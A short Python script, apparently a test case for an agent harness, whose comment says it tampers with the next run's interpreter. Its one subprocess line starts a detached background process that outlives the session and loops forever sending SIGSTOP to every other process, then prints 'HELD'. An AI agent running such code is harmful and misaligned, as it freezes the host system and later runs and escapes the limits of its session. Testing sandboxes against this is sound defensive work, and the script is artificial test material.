# Tampers with the next run’s interpreter, which waits already: files it has yet to read, its limits, its signals.
# layers: agent
from kit import *
import signal, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import os, time\nwhile True:\n    for p in os.listdir('/proc'):\n        if p.isdigit() and int(p) not in (1, os.getpid()):\n            try: os.kill(int(p), 19)\n            except OSError: pass"], start_new_session=True)
# --- next
print("HELD")
